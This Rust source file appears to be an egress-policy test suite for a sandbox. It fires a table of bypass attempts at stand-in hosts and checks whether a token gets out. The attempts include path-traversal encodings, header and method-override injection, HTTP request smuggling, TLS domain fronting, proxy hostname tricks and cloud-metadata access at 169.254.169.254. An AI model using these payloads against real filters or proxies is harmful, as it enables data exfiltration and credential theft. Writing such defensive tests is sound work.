//! Requests: what a rule is about is what the host gets, however a request is written.
//!
//! The hosts are obliging: they read every request in the way that does the most harm, see
//! [`crate::town`]. An attack wins when one of them serves what no rule lets a session have.

use crate::attack::{Attack, Permitted, layer};
use crate::scene::{Lost, Outcome, Scene};
use crate::stage::{Shot, Stage};
use crate::tongue::{Drips, Greeting, ask_two, dial, exchange, read_answer, verdict};
use cowork_api::egress::{HTTP_PROXY_PORT, SOCKS_PORT};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::time::Duration;

const CLASS: &str = "requests";
const REFUSED: &[(&str, &str)] = &[
    ("refused", layer::EGRESS),
    ("no such name", layer::EGRESS),
    ("ECONNRESET", layer::EGRESS),
    ("EPIPE", layer::EGRESS),
    ("ENETUNREACH", layer::NETWORK),
    ("failed to fill", layer::EGRESS),
    // It was read in one way only, and the host was told so.
    ("HTTP/1.1", layer::EGRESS),
    ("200", layer::EGRESS),
];

pub(super) const fn attack(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let served = |stage: &Stage, shot: &Shot| stage.ears(shot, &["guarded"], &shot.token);
    Attack::new(CLASS, name, act, REFUSED).judged(served).in_town()
}

/// A path outside of what a rule is about, spelt like this. `TOKEN` is the run's own.
const fn path(name: &'static str, spelling: &'static str) -> Attack {
    attack(name, page).word(spelling)
}

/// A header that makes another request of an allowed one.
const fn header(name: &'static str, header: &'static str) -> Attack {
    attack(name, |scene| {
        let header = scene.word.replace("TOKEN", scene.token()?);
        let text = format!(
            "GET /v1/{} HTTP/1.1\r\nHost: paths.example\r\n{header}\r\n\r\n",
            scene.token()?
        );
        verdict(&exchange(&mut dial("paths.example", 80)?, text.as_bytes())?)
    })
    .word(header)
}

/// Something that arrives at the address of everybody else.
pub(super) const fn elsewhere(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived = |stage: &Stage, shot: &Shot| stage.ears(shot, &["other"], &shot.token);
    Attack::new(CLASS, name, act, REFUSED).judged(arrived).in_town()
}

/// What is allowed: it shows that the way there is open.
pub(super) const fn reached(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived = |stage: &Stage, shot: &Shot| stage.ears(shot, &["shared"], &shot.token);
    let attack = Attack::new(CLASS, name, act, REFUSED).judged(arrived).in_town();
    attack.permitted(Permitted::Required)
}

/// A request whose length can be read in two ways: in one of them there is a second request in it.
const fn doubled(name: &'static str, headers: &'static str) -> Attack {
    attack(name, smuggle).word(headers)
}

pub(super) const FRONTED: Permitted = Permitted::Everywhere(
    "what is inside of TLS to an allowed host is between both where no rule has it looked into",
);

pub(crate) const TABLE: &[Attack] = &[
    reached("web.is-reached", page).word("/v1/TOKEN"),
    reached("web.two-is-reached", |scene| two(scene, &[("paths.example", "/v1/TOKEN")])),
    reached("web.two-is-reached-over-tls", |scene| {
        two_over_tls(scene, "paths.example", "/v1/TOKEN")
    }),
    reached("web.reached-in-second-place", |scene| second(scene, "/v1/TOKEN", "paths.example")),
    reached("tls.is-reached", |scene| over_tls(scene, Greeting::to("open.example"), "/TOKEN")),
    reached("tls.is-reached-looked-into", |scene| {
        over_tls(scene, Greeting::to("paths.example"), "/v1/TOKEN")
    }),
    reached("proxy.is-reached", |scene| by_proxy(scene, "open.example")),
    path("web.path", "/v2/TOKEN"),
    path("web.path-dots", "/v1/../v2/TOKEN"),
    path("web.path-escaped-dots", "/v1/%2e%2e/v2/TOKEN"),
    path("web.path-half-escaped-dots", "/v1/.%2E/v2/TOKEN"),
    path("web.path-twice-escaped-dots", "/v1/%252e%252e/v2/TOKEN"),
    path("web.path-escaped-slash", "/v1/..%2fv2/TOKEN"),
    path("web.path-escaped-slash-only", "/v1%2f..%2fv2%2fTOKEN"),
    path("web.path-backslash", "/v1/..\\v2/TOKEN"),
    path("web.path-escaped-backslash", "/v1/..%5cv2/TOKEN"),
    path("web.path-parameter", "/v1/..;a=b/v2/TOKEN"),
    path("web.path-empty-parts", "//v2/TOKEN"),
    path("web.path-empty-part-and-dots", "/v1//..//../v2/TOKEN"),
    path("web.path-overlong", "/v1/%c0%ae%c0%ae/v2/TOKEN"),
    path("web.path-nul", "/v1/..%00/v2/TOKEN"),
    path("web.path-fragment", "/v2/TOKEN#/v1/"),
    path("web.path-query", "/v2/TOKEN?/v1/x"),
    path("web.path-case", "/V2/TOKEN"),
    path("web.path-whole", "http://paths.example/v2/TOKEN"),
    path("web.path-whole-of-another", "http://denied.example/v1/TOKEN"),
    path("web.path-user-info", "http://paths.example@denied.example/v1/TOKEN"),
    header("web.method-override", "X-HTTP-Method-Override: DELETE"),
    header("web.method-override-short", "X-HTTP-Method: DELETE"),
    header("web.method-override-other", "X-Method-Override: DELETE"),
    header("web.original-url", "X-Original-URL: /v2/TOKEN"),
    header("web.rewrite-url", "X-Rewrite-URL: /v2/TOKEN"),
    header("web.two-hosts", "Host: denied.example"),
    header("web.two-hosts-spaced", "Host : denied.example"),
    header("web.two-hosts-folded", "X: y\r\n Host: denied.example"),
    header("web.two-hosts-tab", "\tHost: denied.example"),
    header("web.two-hosts-bare-return", "X: y\rHost: denied.example"),
    attack("web.method", |scene| send(scene, "DELETE /v1/TOKEN HTTP/1.1\r\nHost: paths.example")),
    attack("web.method-case", |scene| send(scene, "Get /v1/TOKEN HTTP/1.1\r\nHost: paths.example")),
    attack("web.trace", |scene| send(scene, "TRACE /v1/TOKEN HTTP/1.1\r\nHost: paths.example")),
    attack("web.other-host", |scene| send(scene, "GET /v1/TOKEN HTTP/1.1\r\nHost: denied.example")),
    attack("web.other-host-dot", |scene| {
        send(scene, "GET /v1/TOKEN HTTP/1.1\r\nHost: denied.example.")
    }),
    attack("web.old-version-other-host", |scene| {
        send(scene, "GET /v1/TOKEN HTTP/1.0\r\nHost: denied.example")
    }),
    attack("web.connect-inside", |scene| {
        send(scene, "CONNECT TOKEN.denied.example:443 HTTP/1.1\r\nHost: TOKEN.denied.example:443")
    }),
    attack("web.second-path", |scene| second(scene, "/v2/TOKEN", "paths.example")),
    attack("web.second-host", |scene| second(scene, "/v1/TOKEN", "denied.example")),
    attack("web.without-version", |scene| send(scene, "GET /v2/TOKEN")),
    doubled("web.both-lengths", "Content-Length: LENGTH\r\nTransfer-Encoding: chunked"),
    doubled("web.both-lengths-swapped", "Transfer-Encoding: chunked\r\nContent-Length: LENGTH"),
    doubled("web.coding-unknown", "Content-Length: LENGTH\r\nTransfer-Encoding: xchunked"),
    doubled("web.coding-spaced", "Content-Length: LENGTH\r\nTransfer-Encoding : chunked"),
    doubled("web.coding-tab", "Content-Length: LENGTH\r\nTransfer-Encoding:\x0bchunked"),
    doubled("web.coding-folded", "Content-Length: LENGTH\r\nTransfer-Encoding:\r\n chunked"),
    doubled(
        "web.coding-twice",
        "Content-Length: LENGTH\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    ),
    doubled("web.length-twice", "Content-Length: SHORT\r\nContent-Length: LENGTH"),
    doubled("web.length-signed", "Content-Length: +SHORT\r\nX-Length: LENGTH"),
    doubled("web.length-list", "Content-Length: SHORT, LENGTH"),
    attack("web.upgrade", |scene| upgrade(scene, "/v1/TOKEN", "h2c")),
    attack("web.upgrade-unasked", |scene| upgrade(scene, "/v1/unasked", "")),
    attack("web.websocket", |scene| {
        let mut stream = dial("post.example", 80)?;
        let text = "GET /TOKEN HTTP/1.1\r\nHost: post.example\r\nConnection: Upgrade\r\n\
                    Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                    Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
        verdict(&exchange(&mut stream, text.replace("TOKEN", scene.token()?).as_bytes())?)
    }),
    elsewhere("web.moved", |scene| {
        let mut stream = dial("open.example", 80)?;
        exchange(&mut stream, b"GET /moved HTTP/1.1\r\nHost: open.example\r\n\r\n")?;
        let mut stream = dial("denied.example", 80)?;
        let text = format!("GET /{} HTTP/1.1\r\nHost: denied.example\r\n\r\n", scene.token()?);
        verdict(&exchange(&mut stream, text.as_bytes())?)
    }),
    // HTTP/2.
    attack("web.two-path", |scene| two(scene, [("paths.example", "/v2/TOKEN"); 1].as_slice())),
    attack("web.two-dots", |scene| two(scene, &[("paths.example", "/v1/../v2/TOKEN")])),
    attack("web.two-other-host", |scene| two(scene, &[("denied.example", "/v1/TOKEN")])),
    attack("web.two-coalesced", |scene| {
        two(scene, &[("paths.example", "/v1/"), ("denied.example", "/v1/TOKEN")])
    }),
    attack("web.two-other-header", |scene| {
        let path = format!("/v1/{}", scene.token()?);
        let headers = two_head("paths.example", &path, "http");
        let headers = [&headers[..], &[("host", "denied.example")]].concat();
        ask_two(&mut dial("paths.example", 80)?, &[&headers])
    }),
    attack("web.two-split-header", |scene| {
        let inside = format!("a\r\n\r\nGET /v2/{} HTTP/1.1\r\nHost: sync.example", scene.token()?);
        let headers = two_head("sync.example", "/v1/", "http");
        let headers = [&headers[..], &[("x", inside.as_str())]].concat();
        // Whoever takes such a header writes this.
        if scene.inside() {
            return ask_two(&mut dial("sync.example", 80)?, &[&headers]);
        }
        let text = format!("GET /v1/ HTTP/1.1\r\nHost: sync.example\r\nx: {inside}\r\n\r\n");
        verdict(&exchange(&mut dial("sync.example", 80)?, text.as_bytes())?)
    }),
    attack("web.two-over-tls", |scene| two_over_tls(scene, "paths.example", "/v2/TOKEN")),
    attack("web.two-over-tls-other-host", |scene| {
        two_over_tls(scene, "denied.example", "/v1/TOKEN")
    }),
    // TLS.
    attack("tls.path", |scene| over_tls(scene, Greeting::to("paths.example"), "/v2/TOKEN")),
    attack("tls.other-host-inside", |scene| {
        fronted(scene, "paths.example", Greeting::to("paths.example"))
    }),
    attack("tls.other-name", |scene| {
        fronted(scene, "open.example", Greeting::to("denied.example"))
    }),
    attack("tls.other-name-looked-into", |scene| {
        fronted(scene, "paths.example", Greeting::to("denied.example"))
    }),
    attack("tls.other-name-in-small-records", |scene| {
        let greeting = Greeting { record: Some(48), ..Greeting::to("denied.example") };
        fronted(scene, "open.example", greeting)
    }),
    attack("tls.other-name-in-drips", |scene| {
        let mut stream = Greeting::to("denied.example").over(Drips(dial("open.example", 443)?))?;
        verdict(&exchange(&mut stream, request("denied.example", scene)?.as_bytes())?)
    }),
    attack("tls.no-name-looked-into", |scene| {
        fronted(scene, "paths.example", Greeting { name: "", ..Greeting::to("") })
    }),
    attack("tls.no-name", |scene| fronted(scene, "open.example", Greeting::to("")))
        .permitted(FRONTED),
    attack("tls.other-host-in-tunnel", |scene| {
        fronted(scene, "open.example", Greeting::to("open.example"))
    })
    .permitted(FRONTED),
    attack("tls.other-name-by-proxy", |scene| {
        let mut stream = tunnel(scene, "open.example", 443)?;
        let mut stream = Greeting::to("denied.example").over(&mut stream)?;
        verdict(&exchange(&mut stream, request("denied.example", scene)?.as_bytes())?)
    }),
    elsewhere("tls.to-name-server", |scene| {
        let mut stream = dial("dns.denied.example", 853)?;
        stream.write_all(scene.token()?.as_bytes())?;
        Ok("said".into())
    }),
    elsewhere("tls.names-over-https", |scene| {
        over_tls(scene, Greeting::to("dns.denied.example"), "/dns-query?dns=TOKEN")
    }),
    hello("tls.names-over-https-to-allowed", |scene| {
        over_tls(scene, Greeting::to("open.example"), "/dns-query?dns=TOKEN")
    })
    .permitted(Permitted::Everywhere(
        "an allowed host gets what is sent to it; methods and paths narrow what that can be",
    )),
    attack("tls.names-over-https-looked-into", |scene| {
        over_tls(scene, Greeting::to("paths.example"), "/v2/dns-query?dns=TOKEN")
    }),
    hello("tls.client-certificate-looked-into", |scene| certified(scene, "looked.example")),
    hello("tls.client-certificate-in-a-tunnel", |scene| certified(scene, "open.example"))
        .permitted(FRONTED),
    hello("tls.shell-looked-into", |scene| shell(scene, "looked.example")),
    hello("tls.shell-in-a-tunnel", |scene| shell(scene, "open.example")).permitted(FRONTED),
    hello("tls.old-greeting", |scene| greet(&old(&[7; 32], scene.token()?))),
    hello("tls.oldest-greeting", |scene| greet(&oldest(scene.token()?))),
    hello("tls.greeting-that-is-none", |scene| {
        // The length of its only message is more than there is.
        let mut greeting = old(&[7; 32], scene.token()?);
        if let Some(length) = greeting.get_mut(8) {
            *length = 0;
        }
        greet(&greeting)
    }),
    hello("tls.alert-first", |scene| {
        greet(&[&[21, 3, 3, 0, 2, 1, 0], &old(&[7; 32], scene.token()?)[..]].concat())
    }),
    // Names, as proxies are told them.
    spelt("proxy.denied", "denied.example"),
    spelt("proxy.denied-case-and-dot", "DENIED.Example."),
    spelt("proxy.denied-behind-allowed", "open.example.denied.example"),
    spelt("proxy.allowed-as-ending", "notopen.example"),
    spelt("proxy.homograph", "\u{43e}pen.example"),
    spelt("proxy.homograph-encoded", "xn--pen-uub.example"),
    spelt("proxy.underscore", "open_.example"),
    spelt("proxy.user-info", "open.example@denied.example"),
    spelt("proxy.user-info-port", "open.example:80@denied.example"),
    spelt("proxy.slash", "denied.example/.wild.example"),
    spelt("proxy.backslash", "denied.example\\.wild.example"),
    spelt("proxy.fragment", "denied.example#.wild.example"),
    spelt("proxy.query", "denied.example?.wild.example"),
    elsewhere("proxy.nul", |scene| socks(scene, b"denied.example\0.wild.example")),
    elsewhere("proxy.socks-denied", |scene| socks(scene, b"denied.example")),
    elsewhere("proxy.other-header", |scene| {
        let text = format!(
            "GET http://open.example/{} HTTP/1.1\r\nHost: denied.example\r\n\r\n",
            scene.token()?
        );
        verdict(&exchange(&mut proxy(scene, HTTP_PROXY_PORT)?, text.as_bytes())?)
    }),
    elsewhere("proxy.twice", |scene| {
        let mut stream = tunnel(scene, "open.example", 80)?;
        let text = "CONNECT denied.example:80 HTTP/1.1\r\nHost: denied.example\r\n\r\n";
        cowork_sys::ignore(exchange(&mut stream, text.as_bytes()));
        // The same once more, to the proxy: it may have kept what it read.
        tunnel(scene, "denied.example", 80)?.write_all(scene.token()?.as_bytes())?;
        Ok("said".into())
    }),
    // Addresses that no name was asked for.
    elsewhere("literal.captured", |scene| literal(scene, "11.22.33.8")),
    elsewhere("literal.by-proxy", |scene| by_proxy(scene, "11.22.33.8")),
    elsewhere("literal.decimal", |scene| by_proxy(scene, "185999624")),
    elsewhere("literal.hexadecimal", |scene| by_proxy(scene, "0x0b162108")),
    elsewhere("literal.octal", |scene| by_proxy(scene, "013.026.041.010")),
    elsewhere("literal.mapped", |scene| by_proxy(scene, "[::ffff:11.22.33.8]")),
    metadata("metadata.captured", |scene| literal(scene, "169.254.169.254")),
    metadata("metadata.by-proxy", |scene| by_proxy(scene, "169.254.169.254")),
    metadata("metadata.decimal", |scene| by_proxy(scene, "2852039166")),
    metadata("metadata.hexadecimal", |scene| by_proxy(scene, "0xa9fea9fe")),
    metadata("metadata.octal", |scene| by_proxy(scene, "0251.0376.0251.0376")),
    metadata("metadata.mapped", |scene| by_proxy(scene, "[::ffff:169.254.169.254]")),
    metadata("metadata.forwarded", |scene| {
        let text = format!(
            "GET http://169.254.169.254/{} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
            scene.token()?
        );
        verdict(&exchange(&mut proxy(scene, HTTP_PROXY_PORT)?, text.as_bytes())?)
    }),
    Attack::new(CLASS, "quota.by-many-connections", much, REFUSED).judged(too_much).in_town(),
];

/// The most that a session may send to `quota.example`, and how much each connection sends.
const QUOTA: usize = 64 * 1024;
const PIECE: usize = 8 * 1024;

/// Bytes that arrive at an allowed host although they begin TLS with another one.
pub(super) const fn hello(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived = |stage: &Stage, shot: &Shot| stage.ears(shot, &["shared"], &shot.token);
    Attack::new(CLASS, name, act, REFUSED).judged(arrived).in_town()
}

/// The token in a certificate of the client's own, and nowhere else.
fn certified(scene: &Scene, host: &str) -> Outcome {
    let greeting = Greeting { certificate: Some(scene.token()?), ..Greeting::to(host) };
    over_tls(scene, greeting, "/certified")
}

/// Another protocol in the place of TLS.
fn shell(scene: &Scene, host: &str) -> Outcome {
    let mut stream = dial(host, 443)?;
    verdict(&exchange(&mut stream, format!("SSH-2.0-{}\r\n\r\n", scene.token()?).as_bytes())?)
}

/// A name for the proxy, spelt like this.
const fn spelt(name: &'static str, spelling: &'static str) -> Attack {
    elsewhere(name, |scene| by_proxy(scene, scene.word)).word(spelling)
}

/// Something that arrives where clouds keep credentials.
const fn metadata(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived = |stage: &Stage, shot: &Shot| stage.ears(shot, &["metadata"], &shot.token);
    Attack::new(CLASS, name, act, REFUSED).judged(arrived).in_town()
}

/// Sends a head to `paths.example`.
fn send(scene: &Scene, head: &str) -> Outcome {
    let head = head.replace("TOKEN", scene.token()?);
    let text = format!("{head}\r\n\r\n");
    verdict(&exchange(&mut dial("paths.example", 80)?, text.as_bytes())?)
}

/// A page of `paths.example`, by the attack's own word.
fn page(scene: &Scene) -> Outcome {
    send(scene, &format!("GET {} HTTP/1.1\r\nHost: paths.example", scene.word))
}

/// A request that passes, and behind it, on the same connection, one that must not.
fn second(scene: &Scene, path: &str, host: &str) -> Outcome {
    let path = path.replace("TOKEN", scene.token()?);
    let text = format!(
        "GET /v1/ HTTP/1.1\r\nHost: paths.example\r\n\r\nGET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    );
    let mut stream = dial("paths.example", 80)?;
    let both = exchange(&mut stream, text.as_bytes())?;
    stream.set_read_timeout(Some(Duration::from_millis(300)))?;
    let rest = read_answer(&mut stream).unwrap_or_default();
    let both = String::from_utf8_lossy(&[both, rest].concat()).into_owned();
    verdict(both.rfind("HTTP/1.1").and_then(|at| both.get(at..)).unwrap_or_default().as_bytes())
}

fn smuggle(scene: &Scene) -> Outcome {
    let inner = format!("GET /v2/{} HTTP/1.1\r\nHost: sync.example\r\n\r\n", scene.token()?);
    let (reads, body, length) = if scene.word.starts_with("Transfer") {
        // The host goes by the length, which ends behind the size of the chunk.
        let size = format!("{:x}\r\n", inner.len());
        ("x-reads: length\r\n", format!("{size}{inner}\r\n0\r\n\r\n"), size.len())
    } else if scene.word.contains("Transfer") {
        let body = format!("0\r\n\r\n{inner}");
        let length = body.len();
        ("", body, length)
    } else {
        let length = inner.len();
        ("", inner, length)
    };
    let headers = scene.word.replace("LENGTH", &length.to_string()).replace("SHORT", "0");
    let text =
        format!("POST /v1/ HTTP/1.1\r\nHost: sync.example\r\n{reads}{headers}\r\n\r\n{body}");
    let mut stream = dial("sync.example", 80)?;
    verdict(&exchange(&mut stream, text.as_bytes())?)?;
    stream.set_read_timeout(Some(Duration::from_millis(300)))?;
    verdict(&read_answer(&mut stream).unwrap_or_default())
}

/// Goes over to another protocol, and then says in it what the host understands as before.
fn upgrade(scene: &Scene, path: &str, protocol: &str) -> Outcome {
    let path = path.replace("TOKEN", scene.token()?);
    let ask = match protocol {
        "" => String::new(),
        protocol => format!("Connection: Upgrade\r\nUpgrade: {protocol}\r\n"),
    };
    let text = format!("GET {path} HTTP/1.1\r\nHost: paths.example\r\n{ask}\r\n");
    let mut stream = dial("paths.example", 80)?;
    let said = exchange(&mut stream, text.as_bytes())?;
    let text = format!("GET /v2/{} HTTP/1.1\r\nHost: paths.example\r\n\r\n", scene.token()?);
    stream.write_all(text.as_bytes())?;
    verdict(&said)?;
    verdict(&read_answer(&mut stream)?)
}

pub(super) fn two_head<'a>(
    host: &'a str,
    path: &'a str,
    scheme: &'a str,
) -> [(&'a str, &'a str); 4] {
    [(":method", "GET"), (":scheme", scheme), (":authority", host), (":path", path)]
}

/// Requests in one connection to `paths.example` that begins with HTTP/2 outright.
fn two(scene: &Scene, requests: &[(&str, &str)]) -> Outcome {
    let token = scene.token()?;
    let paths: Vec<String> =
        requests.iter().map(|(_, path)| path.replace("TOKEN", token)).collect();
    let heads: Vec<_> =
        requests.iter().zip(&paths).map(|((host, _), path)| two_head(host, path, "http")).collect();
    let heads: Vec<&[(&str, &str)]> = heads.iter().map(<[_; 4]>::as_slice).collect();
    ask_two(&mut dial("paths.example", 80)?, &heads)
}

fn two_over_tls(scene: &Scene, host: &str, path: &str) -> Outcome {
    let path = path.replace("TOKEN", scene.token()?);
    let greeting = Greeting { protocol: b"h2", ..Greeting::to("paths.example") };
    let mut stream = greeting.over(dial("paths.example", 443)?)?;
    ask_two(&mut stream, &[&two_head(host, &path, "https")])
}

/// A request for a host, on whatever connection.
fn request(host: &str, scene: &Scene) -> Result<String, Lost> {
    Ok(format!("GET /v1/{} HTTP/1.1\r\nHost: {host}\r\n\r\n", scene.token()?))
}

/// A page of the host that is greeted.
fn over_tls(scene: &Scene, greeting: Greeting<'_>, path: &str) -> Outcome {
    let path = path.replace("TOKEN", scene.token()?);
    let mut stream = greeting.over(dial(greeting.name, 443)?)?;
    let text = format!("GET {path} HTTP/1.1\r\nHost: {}\r\n\r\n", greeting.name);
    verdict(&exchange(&mut stream, text.as_bytes())?)
}

/// A page of the denied host, at the address of an allowed one.
fn fronted(scene: &Scene, host: &str, greeting: Greeting<'_>) -> Outcome {
    let mut stream = greeting.over(dial(host, 443)?)?;
    verdict(&exchange(&mut stream, request("denied.example", scene)?.as_bytes())?)
}

/// Says the beginning of TLS to an allowed host.
fn greet(greeting: &[u8]) -> Outcome {
    let mut stream = dial("open.example", 443)?;
    stream.set_read_timeout(Some(Duration::from_millis(300)))?;
    stream.write_all(greeting)?;
    stream.read_exact(&mut [0])?;
    // Whoever answers: the host does not understand it either.
    Err(Lost::new("refused: an alert"))
}

/// The greeting of TLS 1.0: a version, a random number, the token as session, a cipher, the denied
/// host.
fn old(random: &[u8; 32], token: &str) -> Vec<u8> {
    let mut message = [&[3, 1], &random[..], &[token.len() as u8], token.as_bytes()].concat();
    message.extend([0, 2, 0, 47, 1, 0, 0, 23, 0, 0, 0, 19, 0, 17, 0, 0, 14]);
    message.extend(b"denied.example");
    let length = message.len() as u8;
    [&[22, 3, 1, 0, length + 4, 1, 0, 0, length], &message[..]].concat()
}

/// The greeting of SSL 2: its length, the kind, a version, a cipher, no session, a challenge.
fn oldest(token: &str) -> Vec<u8> {
    let challenge = token.len() as u8;
    let head = [0x80, 12 + challenge, 1, 0, 2, 0, 3, 0, 0, 0, challenge, 1, 0, 0x80];
    [&head, token.as_bytes()].concat()
}

/// The proxy, here and there.
fn proxy(scene: &Scene, inside: u16) -> Result<TcpStream, Lost> {
    let port = if scene.inside() { inside } else { scene.get("proxy")?.parse()? };
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    Ok(stream)
}

/// A tunnel through the proxy.
fn tunnel(scene: &Scene, host: &str, port: u16) -> Result<TcpStream, Lost> {
    let mut stream = proxy(scene, HTTP_PROXY_PORT)?;
    let text = format!("CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n");
    verdict(&exchange(&mut stream, text.as_bytes())?)?;
    Ok(stream)
}

/// Says the token to a host through the proxy.
pub(super) fn by_proxy(scene: &Scene, host: &str) -> Outcome {
    let mut stream = tunnel(scene, host, 80)?;
    let text = format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", scene.token()?);
    verdict(&exchange(&mut stream, text.as_bytes())?)
}

fn literal(scene: &Scene, address: &str) -> Outcome {
    let text = format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", scene.token()?);
    verdict(&exchange(&mut dial(address, 80)?, text.as_bytes())?)
}

fn socks(scene: &Scene, name: &[u8]) -> Outcome {
    let mut stream = proxy(scene, SOCKS_PORT)?;
    stream.write_all(&[5, 1, 0])?;
    stream.read_exact(&mut [0; 2])?;
    stream.write_all(&[&[5, 1, 0, 3, name.len() as u8], name, &[0, 80]].concat())?;
    let mut reply = [0; 10];
    stream.read_exact(&mut reply)?;
    if reply[1] != 0 {
        return Err(Lost::new(format!("refused: SOCKS reply {}", reply[1])));
    }
    let text = format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", scene.token()?);
    verdict(&exchange(&mut stream, text.as_bytes())?)
}

/// Many connections, none of which sends as much as all may.
fn much(scene: &Scene) -> Outcome {
    let piece = format!("{} ", scene.token()?);
    let piece = piece.repeat(PIECE / piece.len());
    let head = format!("POST / HTTP/1.1\r\nHost: quota.example\r\nContent-Length: {}", piece.len());
    for _ in 0..4 * QUOTA / PIECE {
        let mut stream = dial("quota.example", 80)?;
        cowork_sys::ignore(exchange(&mut stream, format!("{head}\r\n\r\n{piece}").as_bytes()));
    }
    Err(Lost::new("refused: not more than the quota arrived"))
}

fn too_much(stage: &Stage, shot: &Shot) -> Option<String> {
    std::thread::sleep(Duration::from_millis(100));
    let bytes = stage.town().ok()?.ears.count("shared", &shot.token) * shot.token.len();
    (bytes > QUOTA).then(|| format!("{bytes} bytes arrived of at most {QUOTA}"))
}
